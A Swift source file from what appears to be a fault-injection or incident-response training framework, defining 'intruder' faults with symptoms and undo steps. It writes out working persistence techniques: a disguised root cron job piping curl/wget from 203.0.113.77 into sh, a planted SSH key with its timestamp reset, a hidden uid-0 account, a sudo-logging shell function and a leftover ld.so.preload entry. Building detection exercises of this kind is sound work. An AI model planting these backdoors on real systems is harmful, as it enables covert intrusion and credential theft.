import Scenario

/// What somebody leaves on a machine that is not theirs.
enum IntruderFaults {
    static let all: [FaultKind] = [cron, key, account, preload, profile, secret]

    static let cron = FaultKind(
        "intruder.cron",
        summary: "Adds a cron job that fetches a script from an unknown address and runs it as root.",
        symptom: "The network's people see calls to that address at the same minutes.",
        needs: ["cron"],
        reboot: "Stays: a file in /etc/cron.d.",
        arguments: [
            .init(
                "address", .string(pattern: Pattern.address, explanation: "an IPv4 address"), default: "203.0.113.77",
                "The address."),
            .init("minutes", .int(1...59), default: "10", "The job runs every so many minutes."),
            .init(
                "file", .string(pattern: "[A-Za-z0-9_-]+", explanation: "a file's name without a dot"),
                default: "php-sessions", "The file's name in /etc/cron.d."),
        ],
        examples: [.init(on: "web", [:])]
    ) { arguments in
        let url = "http://\(arguments.text("address"))/.x/s"
        let text = """
            # Look for and purge old sessions
            */\(arguments.number("minutes")) * * * * root (curl -fsm 5 \(url) || wget -qT 5 -O - \(url)) 2>/dev/null | sh

            """
        return Addition(file: "/etc/cron.d/" + arguments.text("file"), text: text).plan
    }

    static let key = FaultKind(
        "intruder.key",
        summary: "Adds a stranger's key to an account's authorized_keys.",
        symptom: "Somebody logs in who should not be able to; the log names the key's fingerprint.",
        needs: ["openssh-client"],
        reboot: "Stays.",
        arguments: [
            .init("user", .string(pattern: Pattern.user, explanation: "an account"), default: "root", "The account."),
            .init(
                "comment", .string(pattern: "[A-Za-z0-9@._-]+", explanation: "a word"), default: "backup@nas01",
                "What the key says it is."),
        ],
        examples: [.init(on: "web", [:]), .init(on: "web", ["user": "deploy", "comment": "ci@runner-7"])]
    ) { arguments in
        FaultPlan(
            ["user": arguments.text("user"), "comment": arguments.text("comment")],
            inject: SSHKeyFaults.newKey + #"""
                home=$(getent passwd "$user" | cut -d : -f 6)
                [ -d "$home" ] || fail "$user has no home"
                file=$home/.ssh/authorized_keys
                note "path $file"
                save "$file"
                old=
                if [ -e "$file" ]; then old=$(cat "$file"); fi
                { if [ -n "$old" ]; then printf '%s\n' "$old"; fi; printf '%s %s\n' "$key" "$comment"; } |
                    put "$file" 0600
                if [ -z "$old" ]; then
                    owner=$(stat -c %u:%g "$home")
                    stamp=$(stat -c %y "$home/.ssh")
                    chown "$owner" "$home/.ssh" "$file"
                    chmod 0700 "$home/.ssh"
                    touch -d "$stamp" "$home/.ssh"
                fi
                """#,
            undo: #"restore "$(field path)""#)
    }

    static let account = FaultKind(
        "intruder.account",
        summary: "Adds an account that is root under another name.",
        symptom: "id of that account shows uid 0; it is in no list of administrators.",
        reboot: "Stays: /etc/passwd and /etc/shadow.",
        arguments: [
            .init(
                "name", .string(pattern: Pattern.user, explanation: "an account's name"), default: "sysbackup",
                "Its name.")
        ],
        examples: [.init(on: "web", [:])]
    ) { arguments in
        FaultPlan(
            ["name": arguments.text("name")],
            inject: #"""
                ! getent passwd "$name" >/dev/null || fail "there is an account $name already"
                save /etc/passwd /etc/shadow
                hash=$(openssl passwd -6 "$(od -An -N 12 -tx1 /dev/urandom)")
                # Among the system's accounts, where nobody looks.
                name="$name" edit /etc/passwd 's{^(mail:[^\n]*\n|\z)}{$ENV{name}:x:0:0::/root:/bin/bash\n$1}m; $done = 1'
                name="$name" hash="$hash" edit /etc/shadow '
                    s{^(mail:[^\n]*\n|\z)}{$ENV{name}:$ENV{hash}:19400:0:99999:7:::\n$1}m; $done = 1
                '
                """#,
            undo: "restore /etc/passwd /etc/shadow")
    }

    static let preload = FaultKind(
        "intruder.preload",
        summary: "Leaves the line of a library that hid something in /etc/ld.so.preload; the library is gone.",
        symptom:
            "Every command says \"object ... from /etc/ld.so.preload cannot be preloaded\"; scripts that read it break.",
        reboot: "Stays: /etc/ld.so.preload.",
        arguments: [
            .init(
                "library", .path, default: "/usr/local/lib/libprocesshider.so", "The library; it must not be there.")
        ],
        examples: [.init(on: "web", [:])]
    ) { arguments in
        FaultPlan(
            ["library": arguments.text("library")],
            inject: #"""
                [ ! -e "$library" ] || fail "$library is there"
                save /etc/ld.so.preload
                # From here on every program complains, ours included.
                printf '%s\n' "$library" | put /etc/ld.so.preload 0644 2>/dev/null
                """#,
            undo: #"""
                : >/etc/ld.so.preload
                restore /etc/ld.so.preload
                """#)
    }

    static let profile = FaultKind(
        "intruder.profile",
        summary: "Has login shells note every use of sudo in a hidden file.",
        symptom: "type sudo says that it is a function; a hidden file that everybody may read grows.",
        reboot: "Stays: a file in /etc/profile.d.",
        arguments: [
            .init("log", .path, default: "/var/tmp/.ICE-cache", "The hidden file; it is made at the first use."),
            .init(
                "file", .string(pattern: "[a-z0-9-]+[.]sh", explanation: "a file's name that ends in .sh"),
                default: "locale-fix.sh", "The file's name in /etc/profile.d."),
        ],
        examples: [.init(on: "web", [:])]
    ) { arguments in
        let text = """
            # Locale for login shells
            export LC_CTYPE=C.UTF-8
            sudo() {
                { printf '%s %s %s\\n' "$(date +%s)" "$(id -un)" "$*" >>\(Shell.quote(arguments.text("log"))); } 2>/dev/null
                command sudo "$@"
            }

            """
        return Addition(file: "/etc/profile.d/" + arguments.text("file"), text: text).plan
    }

    static let secret = FaultKind(
        "secret.in-environment",
        summary: "Puts a secret into a service's environment, where every account can ask for it.",
        symptom: "systemctl show and the unit's file give the secret to everybody.",
        needs: ["systemd"],
        reboot: "Stays: the drop-in.",
        arguments: [
            ServiceFaults.unit,
            .init(
                "name", .string(pattern: "[A-Z][A-Z0-9_]*", explanation: "a variable's name"), default: "DB_PASSWORD",
                "The variable."),
            .init(
                "value", .string(pattern: "[A-Za-z0-9_./:@-]+", explanation: "a word"), required: true, "The secret."),
            .init(
                "file", .string(pattern: Pattern.conf, explanation: Pattern.confWords),
                default: "environment.conf", "The name of the drop-in."),
        ],
        examples: [.init(on: "web", ["unit": "nginx", "value": "s3cr3t-1417"])]
    ) { arguments in
        let text = "[Service]\nEnvironment=\(arguments.text("name"))=\(arguments.text("value"))\n"
        return DropIn(unit: arguments.text("unit"), file: arguments.text("file"), text: text).plan
    }
}
